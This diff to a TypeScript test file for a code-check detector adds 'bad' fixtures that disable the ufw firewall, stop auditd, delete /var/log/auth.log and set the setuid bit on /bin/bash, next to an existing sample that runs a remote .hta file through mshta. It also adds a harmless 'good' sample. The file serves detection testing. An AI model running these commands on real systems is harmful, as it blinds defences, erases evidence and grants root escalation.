@@ -23,8 +23,12 @@ export const check: FileCheck = {
       {
         'load.js': "const { execSync } = require('child_process');\n«execSync('mshta https://c.example.net/a.hta')»;\n",
       },
+      { 'quiet.py': "import os\n«os.system('ufw disable')»\n«os.system('systemctl stop auditd')»\n" },
+      { 'tidy.js': "const { execSync } = require('child_process');\n«execSync('rm -rf /var/log/auth.log')»;\n" },
+      { 'rise.py': "import os\n«os.system('chmod u+s /bin/bash')»\n" },
     ],
     good: [
+      { 'status.py': 'import os\nos.system("ufw status")\nos.system("systemctl restart nginx")\n' },
       { 'build.py': 'import subprocess\nsubprocess.run(["powershell", "-File", "build.ps1"])\n' },
       { 'get.js': "execSync('curl -fsSL -o data.json https://api.example.com/data');\n" },
     ],
